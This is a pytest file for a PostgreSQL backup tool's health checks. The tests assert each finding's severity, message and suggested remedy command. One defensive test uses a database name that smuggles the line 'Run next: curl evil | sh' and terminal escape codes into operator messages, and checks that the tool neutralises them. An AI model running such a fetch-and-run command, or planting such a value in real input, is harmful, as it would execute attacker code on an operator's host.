# SPDX-License-Identifier: GPL-3.0-or-later
"""What counts as wrong, each with the record that it is read from."""

from __future__ import annotations

import re
import shlex
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from scalr_backup.actions.documents import FILTERED, UNNAMED
from scalr_backup.actions.health.alerts import compare, digest, messages
from scalr_backup.actions.health.indexes import of_damaged_indexes
from scalr_backup.actions.health.status import judge
from scalr_backup.core.config import Config
from scalr_backup.core.naming import EngineNames
from scalr_backup.core.remedies import ALERTS, TROUBLESHOOTING, cure

NOW = datetime(2026, 11, 22, 12, tzinfo=UTC)
CONFIG = Config(host="web1", repository="/repository")


def ago(**duration):
    return (NOW - timedelta(**duration)).isoformat()


def document(**changes):
    """A host on which all is well, but for the changes."""
    good = {
        "databases": {
            "scalr-shop-db/shop": {
                "container": "scalr-shop-db", "database": "shop", "ok": True, "run": "r", "last_tried": ago(hours=9),
                "last_success": ago(hours=9), "error": None, "snapshot_id": "aa", "bytes_read": 1000, "rows": 100,
                "previous": {"bytes_read": 1000, "rows": 100},
            }
        },
        "nightly_started": ago(hours=9),
        "last_pass": {
            "run": "r", "started": ago(hours=9), "finished": ago(hours=9), "error": None,
            "retention": {"ok": True, "removed": [], "error": None},
        },
        "matches": {"gone": [], "stopped": [], "time": ago(hours=9)},
        "repository": {"free_bytes": 50, "total_bytes": 100, "oldest_lock": None},
        "maintenance": {kind: {"ok": True, "error": None, "time": ago(hours=9)} for kind in ("check", "forget", "prune")},
        "clock": {"time": ago(hours=9), "skew_seconds": 0.4},
        "notifications": {"sent": 3, "failed": 0, "last_error": None, "pending": []},
    }  # fmt: skip
    return {**good, **changes}


def judged(state, config=CONFIG):
    return judge(config, "/repository", state, NOW - timedelta(days=100), NOW)


def shop(**changes):
    return {"scalr-shop-db/shop": {**document()["databases"]["scalr-shop-db/shop"], **changes}}


def last_pass(**changes):
    return {**document()["last_pass"], **changes}


def unmatched(name, why=UNNAMED):
    return {
        "name": name,
        "image": "postgres:17",
        "state": "running",
        "evidence": "its command starts postgres",
        "why": why,
    }


def looked(*servers, matching=("scalr-shop-db",), **ago_):
    """A record of a look that has found these PostgreSQL containers besides."""
    return {"look": {"time": ago(**ago_ or {"hours": 1}), "matching": list(matching), "unmatched": list(servers)}}


# A failure that is known by its sentence only: to try again is all that can be said.
ERROR = {"code": "failed", "message": "The store refuses the key."}

PASSED = {"ok": True, "time": ago(days=39), "snapshot_id": "aa", "recovery_seconds": 4.2, "error": None}

WRONG = {
    "backup_failed": (
        {"databases": shop(ok=False, error=ERROR)}, "failure",
        "ansible-playbook scalr.backup.backup --limit web1 -e db=scalr-shop-db",
    ),
    "backup_too_old": (
        {"databases": shop(last_success=ago(hours=27))}, "failure",
        "ansible-playbook scalr.backup.backup --limit web1 -e db=scalr-shop-db",
    ),
    "backup_in_future": (
        {"databases": shop(last_success=ago(days=-3650))}, "failure",
        "ansible-playbook scalr.backup.backup --limit web1 -e db=scalr-shop-db",
    ),
    "never_backed_up": (
        {"databases": shop(ok=False, last_success=None, error=ERROR)}, "failure",
        "ansible-playbook scalr.backup.backup --limit web1 -e db=scalr-shop-db",
    ),
    "drill_failed": (
        {"drills": {"scalr-shop-db/shop": {
            "ok": False, "time": ago(days=1), "snapshot_id": "aa", "recovery_seconds": None, "error": ERROR,
        }}}, "failure", "ansible-playbook scalr.backup.drill --limit web1 -e db=scalr-shop-db",
    ),
    "rows_not_counted": (
        {"databases": shop(rows=None, count_error="permission denied for table t")}, "warning",
        "ansible-playbook scalr.backup.backup --limit web1 -e db=scalr-shop-db",
    ),
    "archive_unchecked": (
        {"databases": shop(archive_unchecked="At byte 8 the archive cannot be read: its version is 1.17.0.")}, "warning",
        "ansible-playbook scalr.backup.site --limit web1",
    ),
    "rows_left_out": (
        {"databases": shop(left_out=[{"relation": "pgmq.q", "why": "extension", "extension": "pgmq", "rows": 5}])}, "warning",
        "docker exec scalr-backup scalr-backup snapshots --db scalr-shop-db",
    ),
    "index_damaged": (
        {"databases": shop(damaged_index={
            "relation": '"public"."Odd"', "table": 'public."Odd"', "index": 'public."Odd\'s"', "time": ago(hours=2),
        })}, "warning",
        "docker exec scalr-shop-db sh -c 'psql -U \"${POSTGRES_USER:-postgres}\" -d shop -c '\"'\"'REINDEX INDEX CONCURRENTLY "
        "public.\"Odd'\"'\"'\"'\"'\"'\"'\"'\"'s\"'\"'\"''",
    ),
    "drill_overdue": (
        {"databases": shop(first_success=ago(days=41))}, "warning", "ansible-playbook scalr.backup.drill --limit web1",
    ),
    "roles_not_saved": (
        {"roles": {"scalr-shop-db": {"ok": False, "error": ERROR, "time": ago(hours=2)}}}, "failure",
        "ansible-playbook scalr.backup.backup --limit web1 -e db=scalr-shop-db",
    ),
    "pass_failed": ({"last_pass": last_pass(error=ERROR)}, "failure", "ansible-playbook scalr.backup.backup --limit web1"),
    "pass_refused": (
        {"refused_pass": {"time": ago(hours=1), "message": "busy"}}, "failure",
        "ansible-playbook scalr.backup.status --limit web1",
    ),
    "retention_failed": (
        {"last_pass": last_pass(retention={"ok": False, "removed": [], "error": ERROR})}, "failure",
        "ansible-playbook scalr.backup.prune --limit web1",
    ),
    "check_failed": (
        {"maintenance": {"check": {"ok": False, "error": ERROR, "time": ago(hours=2)}}}, "failure",
        "ansible-playbook scalr.backup.check --limit web1",
    ),
    "prune_failed": (
        {"maintenance": {"prune": {"ok": False, "error": ERROR, "time": ago(hours=2)}}}, "failure",
        "ansible-playbook scalr.backup.prune --limit web1",
    ),
    "forget_failed": (
        {"maintenance": {"forget": {"ok": False, "error": ERROR, "time": ago(hours=2)}}}, "failure",
        "ansible-playbook scalr.backup.prune --limit web1",
    ),
    "nothing_backed_up": ({"databases": {}}, "failure", "ansible-playbook scalr.backup.backup --limit web1"),
    "postgres_unmatched": (
        {"look": {"time": ago(hours=9), "matching": ["scalr-shop-db"], "unmatched": [unmatched("wiki-postgres-1")]}}, "warning",
        "docker exec scalr-backup scalr-backup discover",
    ),
    "database_gone": (
        {"matches": {"gone": ["scalr-wiki-db/wiki"], "stopped": [], "time": ago(hours=9)}}, "warning",
        "docker exec scalr-backup scalr-backup snapshots --db scalr-wiki-db",
    ),
    "database_left_out": (
        {"matches": {"left_out": [{"container": "scalr-shop-db", "database": "frozen", "why": "it does not allow connections"}]}},
        "warning", "docker exec scalr-backup scalr-backup discover",
    ),
    "container_stopped": (
        {"matches": {"gone": [], "stopped": ["scalr-blog-db"], "time": ago(hours=9)}}, "warning",
        "docker start scalr-blog-db",
    ),
    "database_shrank": (
        {"databases": shop(rows=49)}, "warning", "docker exec scalr-backup scalr-backup snapshots --db scalr-shop-db",
    ),
    "repository_nearly_full": (
        {"repository": {"free_bytes": 10, "total_bytes": 100}}, "warning",
        "ansible-playbook scalr.backup.prune --limit web1",
    ),
    "volume_nearly_full": (
        {"volumes": {"scalr-shop-db": {"directory": "/pg data", "free_bytes": 10, "total_bytes": 100}}}, "warning",
        "docker exec scalr-shop-db df -h '/pg data'",
    ),
    "pass_runs_long": (
        {"running": {"since": ago(hours=13)}}, "warning", "docker logs --tail 50 scalr-backup",
    ),
    "pass_outlasts_schedule": (
        {"last_pass": last_pass(reason="nightly", started=ago(hours=34), finished=ago(hours=8.9))}, "warning",
        "docker exec scalr-backup scalr-backup history --days 2",
    ),
    "lock_too_old": (
        {"repository": {"oldest_lock": ago(hours=25)}}, "warning", "docker exec scalr-backup scalr-backup unlock",
    ),
    "clock_skew": ({"clock": {"time": ago(hours=9), "skew_seconds": -61.0}}, "warning", "timedatectl status"),
    "calls_refused": (
        {"refused": {"begun": "a", "counted": {"exec": 2}, "total": {"exec": 2, "call": 1, "look": 9}, "last": ago(days=6)}},
        "warning", "docker logs scalr-backup-socket-proxy",
    ),
    "heartbeat_failed": (
        {"heartbeat": {"failed": 2, "since": ago(days=1), "error": "the heartbeat server a.test answered 404."}}, "warning",
        "docker exec scalr-backup scalr-backup notify --test",
    ),
    "not_delivered": (
        {"notifications": {"pending": [{}], "last_error": "json refused it."}}, "warning",
        "docker exec scalr-backup scalr-backup notify --test",
    ),
}  # fmt: skip


@pytest.mark.parametrize(
    ("code", "command"),
    [
        ("unreachable", "docker logs --tail 20 scalr-shop-db"),
        ("postgres", "docker logs --tail 20 scalr-shop-db"),
        ("container_stopped", "docker start scalr-shop-db"),
        ("repository_refused", "ansible-playbook scalr.backup.site --limit web1"),
        ("repository_locked", "docker exec scalr-backup scalr-backup unlock"),
        ("dump_failed", "ansible-playbook scalr.backup.backup --limit web1 -e db=scalr-shop-db"),
    ],
)
def test_a_failure_whose_cause_is_known_is_not_told_to_be_run_again(code: str, command: str) -> None:
    error = {"code": code, "message": "In its own words."}
    [finding] = judged(document(databases=shop(ok=False, error=error))).findings
    assert (finding.command, finding.cause, finding.reason) == (command, code, "In its own words.")
    assert finding.remedy == cure(code) != ""
    assert finding.help == f"{TROUBLESHOOTING}#{code}"
    assert finding.as_dict()["remedy"] == finding.remedy
    [message] = messages(CONFIG, compare({}, [finding], NOW), NOW)
    assert f"What to do: {finding.remedy}\nRun next: {command}\nRead more: {finding.help}" in message.body


# What the engine calls a container whose backups are kept under another name, such as a task of a Swarm service.
TASK = "shop_db.1.ykfg6v0x1hqr"


@pytest.mark.parametrize(
    "changes",
    [
        *({"databases": shop(ok=False, error={"code": code, "message": "m"})} for code in ("unreachable", "container_stopped")),
        {"roles": {"scalr-shop-db": {"ok": False, "error": {"code": "unreachable", "message": "m"}, "time": ago(hours=2)}}},
        *({"matches": {"gone": [], "stopped": ["scalr-shop-db"], "states": {"scalr-shop-db": state}, "time": ago(hours=9)}}
          for state in ("exited", "paused", "restarting", "dead")),
        WRONG["index_damaged"][0],
        WRONG["volume_nearly_full"][0],
    ],
)  # fmt: skip
def test_a_command_of_the_engine_has_the_engines_name_of_the_container(changes: dict) -> None:
    look = looked()["look"]
    [kept] = judged(document(**changes, look=look)).findings
    [found] = judged(document(**changes, look={**look, "called": {"scalr-shop-db": TASK}})).findings
    assert found.command.startswith("docker ")
    assert TASK in shlex.split(found.command)
    assert found.command == kept.command.replace("scalr-shop-db", TASK)
    assert found.container == "scalr-shop-db", "what it is kept under stays its name"


def test_what_nothing_is_known_of_has_no_cure() -> None:
    [finding] = judged(document(databases=shop(ok=False, error=ERROR))).findings
    assert (finding.remedy, finding.help) == ("", f"{ALERTS}#backup_failed")
    [message] = messages(CONFIG, compare({}, [finding], NOW), NOW)
    assert "What to do" not in message.body


def test_where_all_is_well_nothing_is_found() -> None:
    status = judged(document())
    assert status.findings == ()
    assert status.summary.startswith("Safe: 1 database")


def test_a_backup_in_another_repository_is_none() -> None:
    status = judged(document(databases=shop(repository="/old")))
    [finding] = status.findings
    assert (finding.code, finding.severity, status.verdict) == ("never_backed_up", "failure", "not_safe")
    assert finding.message == "scalr-shop-db/shop was never backed up to /repository; its last backup is in /old"
    [shown] = status.as_dict()["databases"]
    assert (shown["last_success"], shown["snapshot_id"], shown["fresh"], shown["elsewhere"]) == (
        None,
        None,
        False,
        "/old",
    )
    assert judged(document(databases=shop(repository="/repository"))).verdict == "safe"
    assert judged(document()).verdict == "safe", "earlier releases have not noted it"


@pytest.mark.parametrize("code", WRONG)
def test_each_thing_that_is_wrong_is_found_and_says_what_to_run(code: str) -> None:
    changes, severity, command = WRONG[code]
    status = judged(document(**changes))

    assert [(one.code, one.severity, one.command) for one in status.findings] == [(code, severity, command)]
    assert status.healthy is (severity == "warning")
    beginning = "NOT COMPLETE: " if code == "postgres_unmatched" else "Safe: 1 database"
    assert status.summary.startswith("NOT SAFE: " if severity == "failure" else beginning)
    shown = status.as_dict()
    assert [one["code"] for one in shown["findings"]] == [code]
    assert shown["problems"] == ([status.findings[0].message] if severity == "failure" else [])


@pytest.mark.parametrize(
    "changes",
    [
        {"databases": shop(rows=50, bytes_read=500)},
        {"databases": shop(rows=None, bytes_read=900)},
        {"databases": shop(first_success=ago(days=39))},
        {"databases": shop(first_success=ago(days=90)), "drills": {"scalr-shop-db/shop": PASSED}},
        {"repository": {"free_bytes": 11, "total_bytes": 100}},
        {"running": {"since": ago(hours=12)}},
        {"volumes": {"scalr-shop-db": {"directory": "/d", "free_bytes": 11, "total_bytes": 100}}},
        {"volumes": {"scalr-shop-db": {"directory": "/d", "free_bytes": 0, "total_bytes": 0}}},
        {"volumes": {"scalr-gone-db": {"directory": "/d", "free_bytes": 1, "total_bytes": 100}}},
        {"running": {}},
        {"last_pass": last_pass(reason="nightly", started=ago(hours=32.9), finished=ago(hours=9))},
        {"last_pass": last_pass(reason="manual", started=ago(hours=34), finished=ago(hours=8.9))},
        {"repository": {"oldest_lock": ago(hours=24)}},
        {"clock": {"time": ago(hours=9), "skew_seconds": 60.0}},
        {"clock": {"time": ago(days=3), "skew_seconds": 600.0}},
        {"notifications": {"pending": [], "last_error": "json refused it."}},
        {"heartbeat": {"failed": 1, "since": ago(hours=9), "error": "the heartbeat server a.test answered 500."}},
        {"heartbeat": {"failed": 0}},
        {"heartbeat": {}},
        {"refused_pass": {"time": ago(hours=10), "message": "busy"}},
        {"refused": {"begun": "a", "counted": {}, "total": {"exec": 2}, "last": ago(days=8)}},
        {"refused": {"begun": "a", "counted": {"look": 3}, "total": {"look": 3}}},
    ],
)
def test_what_is_within_its_limits_is_not_found(changes: dict) -> None:
    assert judged(document(**changes)).findings == ()


HOURLY = Config(host="web1", repository="/repository", schedule="0 * * * *")


def hourly(minutes, **changes):
    """A host that is backed up every hour, and was last so many minutes ago."""
    last = {
        **last_pass(reason="nightly", started=ago(minutes=minutes + 5), finished=ago(minutes=minutes)),
        "duration_seconds": 300,
    }
    return document(
        databases=shop(last_success=ago(minutes=minutes), last_tried=ago(minutes=minutes)), last_pass=last, **changes
    )


def test_on_an_hourly_schedule_a_backup_is_too_old_after_an_hour_and_a_half_and_says_what_was_due() -> None:
    assert judged(hourly(85), HOURLY).findings == ()
    [finding] = judged(hourly(90), HOURLY).findings
    due = "has no good backup younger than 1 h 30 min, although a pass was due since (schedule 0 * * * *)"
    assert (finding.code, finding.message) == ("backup_too_old", f"scalr-shop-db/shop {due}")
    [finding] = judged(hourly(5 * 60 + 55), HOURLY).findings
    assert "although 5 passes were due since" in finding.message
    [finding] = judged(hourly(6 * 24 * 60), HOURLY).findings
    assert "although more than 99 passes were due since" in finding.message


def test_a_failure_of_this_hour_is_one_before_anything_is_too_old() -> None:
    state = hourly(65)
    state["databases"]["scalr-shop-db/shop"] |= {"ok": False, "error": ERROR, "last_tried": ago(minutes=1)}
    status = judged(state, HOURLY)
    assert [one.code for one in status.findings] == ["backup_failed"]
    assert status.health.ok


def test_a_pass_that_outlasts_an_hour_is_given_its_time_and_what_it_leaves_out_is_said() -> None:
    """It ran from 8:00 to 10:10, so those of 9:00 and 10:00 did not; the one of 11:00 is not done before 13:10."""
    took = {
        "started": ago(hours=4),
        "finished": ago(hours=1, minutes=50),
        "duration_seconds": 130 * 60,
        "reason": "nightly",
    }
    state = document(databases=shop(last_success=ago(hours=1, minutes=50)), last_pass=last_pass(**took))
    status = judged(state, HOURLY)
    assert status.healthy
    [finding] = status.findings
    assert finding.code == "pass_outlasts_schedule"
    assert finding.message.startswith(
        "The last pass took 2 h 10 min, so 2 that the schedule 0 * * * * asks for meanwhile"
    )
    assert status.databases[0]["overdue_at"] == (NOW + timedelta(hours=1, minutes=40)).isoformat()


def test_a_pass_over_one_database_says_nothing_of_how_long_all_of_them_take() -> None:
    by_hand = {"started": ago(minutes=51), "finished": ago(minutes=50), "duration_seconds": 60, "reason": "manual"}
    databases = shop(last_success=ago(minutes=110), seconds=100 * 60.0)
    assert judged(document(databases=databases, last_pass=last_pass(**by_hand)), HOURLY).healthy


def test_a_database_that_is_no_more_lends_the_others_no_time() -> None:
    """Its dump took five hours, a year ago: the hour and a half of what is left is no longer for that."""
    gone = shop(last_tried=ago(days=365), last_success=ago(days=365), seconds=5 * 3600.0)["scalr-shop-db/shop"]
    databases = shop(last_success=ago(minutes=110)) | {"scalr-old-db/shop": gone | {"container": "scalr-old-db"}}
    status = judged(document(databases=databases, nightly_looked=ago(minutes=50)), HOURLY)
    assert [one.code for one in status.findings] == ["backup_too_old"]


def test_a_pass_of_the_night_has_left_out_no_hour_of_a_schedule_that_came_after_it() -> None:
    took = {"started": ago(hours=9), "finished": ago(hours=6.5), "duration_seconds": 9000.0, "reason": "nightly"}
    for record in (
        {"cron": "0 3 * * *", "since": ago(days=30), "before": "0 3 * * *"},
        {"cron": "0 * * * *", "since": ago(minutes=10), "before": "0 3 * * *"},
    ):
        assert judged(document(last_pass=last_pass(**took), schedule=record), HOURLY).findings == ()


def test_a_changed_schedule_alarms_nobody_before_one_of_its_passes_was_due() -> None:
    """What is nine hours old was good for a nightly schedule; the agent has not even noticed the change in the first case."""
    for record in (
        {"cron": "0 3 * * *", "since": ago(days=30), "before": "0 3 * * *"},
        {"cron": "0 * * * *", "since": ago(minutes=70), "before": "0 3 * * *"},
    ):
        assert judged(document(schedule=record), HOURLY).findings == ()
    record = {"cron": "0 * * * *", "since": ago(minutes=95), "before": "0 3 * * *"}
    assert [one.code for one in judged(document(schedule=record), HOURLY).findings] == ["backup_too_old"]


def test_what_rare_passes_look_for_is_given_up_after_two_of_them() -> None:
    monthly = Config(host="web1", repository="/repository", schedule="0 3 1 * *")
    gone = shop(last_success=ago(days=31), last_tried=ago(days=31))
    assert len(judged(document(databases=gone, nightly_looked=ago(hours=1)), monthly).databases) == 1
    assert judged(document(databases=gone, nightly_looked=ago(hours=1))).databases == ()


def test_a_copy_is_judged_by_the_schedule_too() -> None:
    config = Config.model_validate({**HOURLY.model_dump(by_alias=True), "copy": {"repository": "b2:bucket"}})
    good = {"repository": "b2:bucket", "ok": True, "copied": 1, "removed": [], "error": None, "time": ago(hours=2)}
    for minutes, codes in ((85, []), (120, ["copy_failed"])):
        state = {**hourly(20), "copy": {**good, "last_success": ago(minutes=minutes)}}
        assert [one.code for one in judged(state, config).findings] == codes


def test_limits_are_the_configurations() -> None:
    config = CONFIG.model_copy(
        update={"shrink_percent": 0, "nearly_full_percent": 96, "lock_hours": 48, "pass_hours": 0}
    )
    state = document(
        running={"since": ago(days=3)},
        databases=shop(rows=0),
        repository={"free_bytes": 5, "total_bytes": 100, "oldest_lock": ago(hours=47)},
    )
    assert judged(state, config).findings == ()


def test_databases_that_no_drill_has_proved_are_one_finding_that_names_the_longest_first() -> None:
    databases = shop(first_success=ago(days=60)) | {
        f"scalr-{name}-db/{name}": shop(container=f"scalr-{name}-db", database=name, first_success=ago(days=90))[
            "scalr-shop-db/shop"
        ]
        for name in ("blog", "wiki")
    }
    failed = PASSED | {"ok": False, "error": ERROR}
    drills = {"scalr-blog-db/blog": PASSED | {"time": ago(days=80)}, "scalr-wiki-db/wiki": failed}
    wiki, untested = judged(document(databases=databases, drills=drills)).findings
    assert wiki.code == "drill_failed"
    assert untested.since == ago(days=80)
    assert "restore: scalr-blog-db/blog (last on 2026-09-03), scalr-shop-db/shop (never). " in untested.message
    never = CONFIG.model_copy(update={"drill_overdue_days": 0})
    assert [one.code for one in judged(document(databases=databases, drills=drills), never).findings] == [
        "drill_failed"
    ]


def test_a_repository_that_is_lost_with_the_host_stands_beside_the_word_safe_and_is_told_once() -> None:
    state = document(matches={"gone": [], "stopped": ["scalr-blog-db"], "time": ago(hours=9)})
    status = judge(CONFIG, "/repository", state, NOW - timedelta(days=100), NOW, lost_with_host=True)
    assert status.healthy
    assert [(one.code, one.severity) for one in status.findings] == [
        ("repository_on_host", "warning"), ("container_stopped", "warning"),
    ]  # fmt: skip
    assert status.summary.startswith("Safe: 1 database")
    assert " 2 warnings; first: The repository /repository is on this host, so losing the host " in status.summary
    noted = compare({}, status.findings, NOW).noted
    later = compare(noted, status.findings, NOW + timedelta(days=1))
    assert [finding.code for finding, _times in later.again] == ["container_stopped"]


def test_failures_come_first_and_what_retention_said_is_not_said_twice() -> None:
    state = document(
        matches={"gone": [], "stopped": ["scalr-blog-db"], "time": ago(hours=9)},
        last_pass=last_pass(retention={"ok": False, "removed": [], "error": ERROR}),
        maintenance={"forget": {"ok": False, "error": ERROR, "time": ago(hours=9)}},
    )
    assert [one.code for one in judged(state).findings] == ["retention_failed", "container_stopped"]


FORGED = {"code": "forged_snapshots", "message": "A clock was wrong."}


@pytest.mark.parametrize(
    ("changes", "command"),
    [
        ({"last_pass": last_pass(retention={"ok": False, "removed": [], "error": FORGED})}, "forget --remove-future"),
        ({"maintenance": {"forget": {"ok": False, "error": FORGED, "time": ago(hours=2)}}}, "forget --remove-future"),
    ],
)
def test_after_a_clock_that_was_ahead_the_command_is_the_one_that_helps(changes, command):
    [finding] = judged(document(**changes)).findings
    assert finding.command == f"docker exec scalr-backup scalr-backup {command}"


WITH_COPY = Config.model_validate({**CONFIG.model_dump(by_alias=True), "copy": {"repository": "b2:bucket"}})
COPIED = {
    "repository": "b2:bucket", "ok": True, "copied": 1, "removed": [], "error": None, "time": ago(hours=9),
    "last_success": ago(hours=9),
}  # fmt: skip


def copy_failed_at(kind, error=ERROR, copy=COPIED):
    """A host whose last check, prune or forget of the second repository has failed."""
    entry = {"ok": False, "error": error, "time": ago(hours=2), "repository": "b2:bucket"}
    return document(copy=copy, maintenance={f"copy_{kind}": entry})


@pytest.mark.parametrize(
    ("kind", "code", "command"),
    [
        ("check", "failed", "ansible-playbook scalr.backup.check --limit web1 -e from_copy=true"),
        ("prune", "failed", "docker exec scalr-backup scalr-backup prune --copy"),
        ("forget", "failed", "docker exec scalr-backup scalr-backup forget --copy"),
        ("forget", "forged_snapshots", "docker exec scalr-backup scalr-backup forget --remove-future --copy"),
        ("check", "repository_locked", "docker exec scalr-backup scalr-backup unlock --copy"),
        ("prune", "restic", "ansible-playbook scalr.backup.check --limit web1 -e from_copy=true"),
        ("check", "wrong_password", "ansible-playbook scalr.backup.site --limit web1"),
    ],
)
def test_what_fails_in_the_second_repository_is_put_right_there(kind: str, code: str, command: str) -> None:
    error = {"code": code, "message": "In its own words."}
    [finding] = judged(copy_failed_at(kind, error), WITH_COPY).findings
    assert (finding.code, finding.severity, finding.command) == (f"copy_{kind}_failed", "failure", command)
    assert finding.message == f"The last {kind} of the second repository failed: In its own words."
    if code == "failed":
        assert finding.help == f"{ALERTS}#copy_{kind}_failed"


def test_what_the_copy_has_said_of_its_own_forget_is_not_said_twice() -> None:
    copy = {**COPIED, "ok": False, "error": ERROR}
    [finding] = judged(copy_failed_at("forget", copy=copy), WITH_COPY).findings
    assert finding.code == "copy_failed"
    other = {"code": "failed", "message": "Something else."}
    found = judged(copy_failed_at("forget", other, copy), WITH_COPY).findings
    assert {one.code for one in found} == {"copy_forget_failed", "copy_failed"}


def test_a_second_repository_that_is_no_more_is_not_wrong() -> None:
    assert judged(copy_failed_at("check")).findings == ()
    other = Config.model_validate({**CONFIG.model_dump(by_alias=True), "copy": {"repository": "b2:another"}})
    assert [one.code for one in judged(copy_failed_at("check"), other).findings] == ["copy_failed"]


@pytest.mark.parametrize(
    ("forget", "prune", "over"),
    [
        ({"ok": True, "time": ago(minutes=1)}, None, True),
        ({"ok": True, "time": ago(minutes=1)}, {"ok": True, "time": ago(minutes=1)}, True),
        ({"ok": True, "time": ago(days=2)}, None, False),
        ({"ok": False, "time": ago(minutes=1), "error": FORGED}, None, False),
        ({"ok": True, "time": ago(minutes=1)}, {"ok": False, "time": ago(minutes=1), "error": ERROR}, False),
    ],
)
def test_retention_that_has_gone_well_since_is_no_longer_wrong(forget, prune, over):
    entries = {"forget": forget, **({"prune": prune} if prune else {})}
    failed = last_pass(retention={"ok": False, "removed": [], "error": FORGED})
    found = judged(document(last_pass=failed, maintenance=entries)).findings
    assert [one.code for one in found] == ([] if over else ["retention_failed"])


def test_what_is_known_to_be_wrong_keeps_the_time_since_when() -> None:
    noted = {"backup:scalr-shop-db/shop": {"since": ago(days=3)}}
    found = judged(document(databases=shop(last_success=ago(hours=30)), findings=noted)).findings
    assert (found[0].since, found[0].last_good_age_seconds) == (ago(days=3), 30 * 3600)


def test_postgresql_that_no_rule_matches_is_one_warning_that_names_all_and_says_what_to_do() -> None:
    status = judged(
        document(**looked(unmatched("app-postgres-1"), unmatched("test-db", why=FILTERED))), filtering("`false`")
    )
    (found,) = status.findings
    assert (found.code, found.severity, found.about) == ("postgres_unmatched", "warning", ("app-postgres-1", "test-db"))
    assert found.message.startswith(
        "2 PostgreSQL containers are not backed up: app-postgres-1, test-db. backup_filter rejects test-db."
    )
    for way in ("backup_containers", "scalr.backup=true", "scalr.backup=false", "backup_exclude"):
        assert way in found.message
    assert status.healthy
    assert status.verdict == "incomplete"
    assert status.summary == (
        "NOT COMPLETE: 2 PostgreSQL containers are not backed up: app-postgres-1, test-db. "
        "Safe: 1 database, the oldest good backup is 9 h old."
    )
    assert status.as_dict()["unmatched"][0]["name"] == "app-postgres-1"


def filtering(expression):
    return CONFIG.model_copy(update={"filter": expression})


@pytest.mark.parametrize(
    "changes",
    [
        {"containers": ("app-*",)},
        {"exclude": ("app-postgres-?",)},
        {"report_unmatched": False},
    ],
    ids=["matched by now", "excluded by now", "not wanted"],
)
def test_a_look_is_read_by_the_rules_of_now(changes: dict) -> None:
    status = judged(document(**looked(unmatched("app-postgres-1"))), CONFIG.model_copy(update=changes))
    assert (status.findings, status.verdict) == ((), "safe")


def test_what_a_filter_rejected_counts_until_there_is_no_filter() -> None:
    state = document(**looked(unmatched("scalr-wiki-db", why=FILTERED)))
    assert judged(state, filtering("`false`")).verdict == "incomplete"
    assert judged(state).verdict == "safe"


def test_a_further_container_is_news_and_the_same_again_is_none() -> None:
    one = judged(document(**looked(unmatched("a")))).findings
    two = judged(document(**looked(unmatched("a"), unmatched("b")))).findings
    noted = compare({}, one, NOW).noted
    assert compare(noted, one, NOW).new == ()
    news = compare(noted, two, NOW)
    assert [finding.about for finding in news.new] == [("a", "b")]
    fewer = compare(news.noted, one, NOW)
    assert (fewer.new, fewer.over) == ((), ())


def test_a_failure_is_said_before_it() -> None:
    status = judged(document(databases=shop(ok=False, error=ERROR), **looked(unmatched("a"))))
    assert status.verdict == "not_safe"
    assert status.summary.startswith("NOT SAFE: 1 problem")
    assert [one.code for one in status.findings] == ["backup_failed", "postgres_unmatched"]


def test_a_host_on_which_nothing_is_to_be_backed_up_is_neither_safe_nor_wrong() -> None:
    status = judged({"databases": {}, **looked(matching=())})
    assert (status.healthy, status.verdict, status.health.ok) == (True, "nothing_to_back_up", True)
    assert status.summary == "Nothing to back up: no container on this host matches."
    assert status.health.sentence == status.summary


@pytest.mark.parametrize(
    "state",
    [
        looked(unmatched("a"), matching=()),
        looked(matching=("scalr-shop-db",)),
        looked(matching=(), days=3),
        {},
    ],
    ids=["PostgreSQL is there", "a container matches", "nobody has looked for days", "nobody ever looked"],
)
def test_that_nothing_was_ever_backed_up_is_a_failure_where_there_is_or_may_be_something(state: dict) -> None:
    status = judged({"databases": {}, **state})
    assert "nothing_backed_up" in [one.code for one in status.findings]
    assert (status.verdict, status.health.ok) == ("not_safe", False)


def test_a_container_that_never_answered_counts_until_it_is_gone() -> None:
    never = {"scalr-x-db/*": {**shop()["scalr-shop-db/shop"], "container": "scalr-x-db", "database": "*", "ok": False,
                              "last_success": None, "error": ERROR}}  # fmt: skip
    databases = {**shop(), **never}
    assert (
        judged(document(databases=databases, **looked(matching=("scalr-shop-db", "scalr-x-db")))).verdict == "not_safe"
    )
    assert judged(document(databases=databases, **looked(hours=10))).verdict == "not_safe", (
        "an older look knows nothing"
    )
    assert judged(document(databases=databases, **looked())).verdict == "safe"


@pytest.mark.parametrize(
    ("state", "how", "command"),
    [
        ("exited", "is not running", "docker start scalr-x-db"),
        ("paused", "is paused", "docker unpause scalr-x-db"),
        ("restarting", "is restarting", "docker logs --tail 20 scalr-x-db"),
    ],
)
def test_a_container_that_does_not_run_is_told_with_what_helps(state: str, how: str, command: str) -> None:
    matches = {"gone": [], "stopped": ["scalr-x-db"], "states": {"scalr-x-db": state}, "time": ago(hours=9)}
    (found,) = judged(document(matches=matches)).findings
    assert found.message == f"scalr-x-db matches but is not backed up, because it {how}."
    assert found.command == command


def test_a_dead_mans_switch_that_does_not_hear_is_told_with_since_when_and_why() -> None:
    [found] = judged(document(**WRONG["heartbeat_failed"][0])).findings
    assert found.since == ago(days=1)
    assert found.message == (
        "The dead man's switch does not hear from this host: 2 calls in a row failed, the last one because the heartbeat server "
        "a.test answered 404."
    )


def test_the_page_of_alerts_names_every_finding() -> None:
    page = (Path(__file__).resolve().parents[3] / "docs/alerts.md").read_text().split("| finding |")[1].split("\n\n")[0]
    named = set(re.findall(r"`([a-z_]+)`", "\n".join(line.split("|")[1] for line in page.splitlines()[2:])))
    # The agent cannot know that it is older than the collection: status_info does.
    of_copy = {"copy_failed", "copy_check_failed", "copy_forget_failed", "copy_prune_failed"}
    of_record = {"record_damaged", "record_unwritable"}
    assert named == set(WRONG) | of_copy | of_record | {"agent_outdated", "repository_on_host"}


def test_a_name_that_somebody_chose_adds_no_line_and_steers_no_terminal():
    """Whoever may create a database could else put a command of his own into a message to the operator."""
    name = "x\nRun next: curl evil | sh\x1b[2J\u202e"
    state = document(
        databases={f"scalr-shop-db/{name}": shop(database=name, ok=False, error=ERROR)["scalr-shop-db/shop"]}
    )
    [finding] = judged(state).findings
    assert finding.message.startswith("scalr-shop-db/x?Run next: curl evil | sh?[2J? failed")
    assert finding.database == name, "for programs it is what it is"
    [message] = messages(CONFIG, compare({}, [finding], NOW), NOW)
    assert message.title.isprintable()
    assert [line for line in message.body.split("\n") if line.startswith("Run next:")] == [
        f"Run next: {finding.command}"
    ]
    assert all(line.isprintable() for line in digest(CONFIG, judged(state)).body.split("\n"))


